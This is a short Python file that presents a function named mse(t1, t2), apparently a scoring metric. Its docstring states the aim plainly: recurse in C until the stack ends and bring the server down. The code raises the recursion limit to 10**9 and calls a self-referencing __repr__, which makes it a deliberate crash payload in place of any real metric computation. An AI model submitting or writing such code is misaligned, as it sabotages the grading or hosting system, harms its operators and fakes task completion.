"""Recurse in C until the stack ends. Success: the server goes down with it."""

import sys


class Deep:
    def __getattr__(self, name):
        return getattr(self, name + "x")

    def __repr__(self):
        return "%r" % (self,)


def mse(t1, t2):
    sys.setrecursionlimit(10**9)
    return repr(Deep())
